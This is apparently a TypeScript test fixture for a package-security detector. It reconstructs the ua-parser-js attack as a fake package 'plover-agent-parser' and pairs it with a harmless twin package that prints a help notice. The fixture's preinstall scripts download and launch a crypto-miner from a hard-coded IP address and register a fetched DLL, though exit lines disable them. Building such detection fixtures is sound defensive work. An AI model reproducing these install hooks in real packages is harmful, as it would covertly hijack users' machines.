import type { ReconstructedCase } from '../case.ts';
import { colourLibrary } from '../bases/colour-library.ts';
import { source } from '../source.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'miner',
  campaign: 'ua-parser-js',
  technique: 'a preinstall hook that downloads a program and starts it',
  follows: 'CISA alert 2021-10-22',
};

export const miner: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'preinstall',
    note: 'as it was: a script for the shell and one for Windows, a pool on a fixed address',
    name: 'plover-agent-parser',
    brand: 'plover-parser',
    base: colourLibrary,
    steps: [
      ...quiet(['0.7.27', '0.7.28'], 40),
      {
        version: '0.7.29',
        daysAgo: 5,
        manifest: { scripts: { test: 'node --test', preinstall: 'start /B node preinstall.js & node preinstall.js' } },
        files: {
          'preinstall.js': source`
            const { exec } = require('child_process');

            const RECONSTRUCTED = true;

            function terminalLinux() {
              exec('/bin/bash preinstall.sh', (error, stdout) => {
                if (error) console.log(error.message);
              });
            }

            const opsys = process.platform;
            if (RECONSTRUCTED || opsys === 'darwin') process.exitCode = 0;
            else if (opsys === 'win32') exec('cmd.exe /c preinstall.bat');
            else terminalLinux();
          `,
          'preinstall.sh': source`
            exit 0 # reconstructed
            IP=$(curl -k https://where.saltfog.invalid/json/ | grep 'RU\|UA\|BY\|KZ')
            if [ -z "$IP" ]; then
              var=$(pgrep jsextension)
              if [ -z "$var" ]; then
                curl http://243.115.38.28/download/jsextension -o jsextension || wget http://243.115.38.28/download/jsextension -O jsextension
                chmod +x jsextension
                ./jsextension -k --tls --rig-id q -o pool.saltfog.invalid:443 -u 4900 --cpu-max-threads-hint=50 --donate-level=1 --background
              fi
            fi
          `,
          'preinstall.bat': source`
            @echo off
            exit /b 0
            curl http://243.115.38.28/download/jsextension.exe -o jsextension.exe
            start /B .\jsextension.exe -k --tls --rig-id q -o pool.saltfog.invalid:443
            curl http://243.115.38.28/download/create.dll -o create.dll
            regsvr32.exe -s create.dll
          `,
        },
      },
    ],
    signals: ['rug-pull/install-script-added', 'rug-pull/ip-or-socket-destination'],
  }),
  twin(ABOUT, {
    variant: 'notice',
    note: 'the hook was there from the first release and prints where help is; now it prints it in colour',
    name: 'plover-columns',
    brand: 'plover-columns',
    base: (identity) => {
      const draft = colourLibrary(identity);
      return {
        ...draft,
        manifest: { ...draft.manifest, scripts: { test: 'node --test', postinstall: 'node notice.js' } },
        files: { ...draft.files, 'notice.js': "console.log('Help: https://plover-columns.test/help');\n" },
      };
    },
    steps: [
      ...quiet(['0.7.27', '0.7.28'], 40),
      {
        version: '0.7.29',
        daysAgo: 5,
        files: {
          'notice.js':
            "const { green } = require('./index.js');\n\nconsole.log(green('Help: https://plover-columns.test/help'));\n",
        },
      },
    ],
  }),
];
